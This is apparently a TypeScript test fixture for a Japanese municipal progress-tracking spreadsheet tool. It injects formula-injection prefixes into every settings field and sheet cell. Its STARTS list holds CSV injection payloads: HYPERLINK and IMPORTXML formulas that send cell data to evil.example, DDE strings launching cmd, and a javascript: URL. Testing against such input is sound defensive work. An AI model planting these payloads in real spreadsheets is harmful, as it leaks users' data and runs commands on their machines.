// Texts that spreadsheet programs take for formulas, in every field of a table and of the settings.

import * as z from "zod/mini";
import type { Workbook } from "../../local/workbook";
import { DEFAULT_SETTINGS, Settings } from "../../src/settings/settings";
import { toA1 } from "../../src/table/a1";

/** How a hostile text may begin (OWASP, CSV injection), and what it may try. */
export const STARTS: readonly string[] = [
	"=",
	"+",
	"-",
	"@",
	"'",
	"\t",
	"\r",
	"\n",
	"＝",
	"＋",
	"－",
	"＠",
	'=HYPERLINK("http://evil.example/?a="&A1,"こちら")',
	'=IMPORTXML("http://evil.example/","//a")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"  =1+1",
	"　=1+1",
	"\u200b=1+1",
	"\u0000=1+1",
	"'=1+1",
	'"",A1:A9)&IMPORTDATA("http://evil.example/',
	'")=0)+HYPERLINK("http://evil.example/")*(N("',
	"#gid=0&range=A1 https://evil.example/ ",
	"javascript:alert(1) ",
];

/** A file in which everything that an office can set is set. */
const EVERYTHING: Settings = {
	...DEFAULT_SETTINGS,
	version: 1,
	language: "ja",
	scale: [
		{ symbol: "◎", meaning: "目標を上回った", lookAlikes: ["二重丸"], done: true },
		{ symbol: "〇", meaning: "計画どおり", lookAlikes: ["○"], done: true },
		{ symbol: "△", meaning: "遅れている", lookAlikes: ["三角"], done: false },
		{ symbol: "×", meaning: "未着手", lookAlikes: ["ばつ"], done: false },
	],
	departments: ["介護保険", "福祉政策", "福祉総務", "健康政策"].map((name) => ({ name, aliases: [`${name}の別名`] })),
	terms: ["短期", "中期", "長期"],
	requests: { due: "2027-03-31", contact: "企画課 内線1234" },
	tabs: [],
};

/** Every text of the settings that may be any text, with the start ahead; what the schema refuses stays as it was. */
export function hostileSettings(start: string): string {
	const settings: unknown = structuredClone(EVERYTHING);
	const visit = (node: unknown): void => {
		if (typeof node !== "object" || node === null) {
			return;
		}
		for (const [key, value] of Object.entries(node)) {
			if (typeof value === "string") {
				Object.assign(node, { [key]: start + value });
				if (!z.safeParse(Settings, settings).success) {
					Object.assign(node, { [key]: value });
				}
			}
			visit(value);
		}
	};
	visit(settings);
	return JSON.stringify(settings);
}

/** Headings that must be known word for word, or no column is read: with a start ahead they name none, and reach no tab. */
const HEADINGS = ["C6", "D6", "E6", "A7", "F7", "G7", "H7", "I7", "J7"];

/**
 * Puts a start ahead of every text of the first tab, its name and the file's.
 * @param startOf by 0-based row and column
 */
export function makeHostile(workbook: Workbook, startOf: (row: number, column: number) => string): void {
	const [sheet] = workbook.sheets;
	if (sheet === undefined) {
		throw new Error("The workbook has no tab.");
	}
	sheet.cells.forEach((cells, row) => {
		cells.forEach((cell, column) => {
			const isText = typeof cell?.value === "string" && cell.value !== "";
			if (cell !== undefined && isText && !HEADINGS.includes(toA1({ row, column }))) {
				cell.value = startOf(row, column) + cell.value;
			}
		});
	});
	sheet.name = `${startOf(0, 0)}${sheet.name}`.slice(0, 100);
	workbook.name = `${startOf(0, 0)}${workbook.name}`;
}
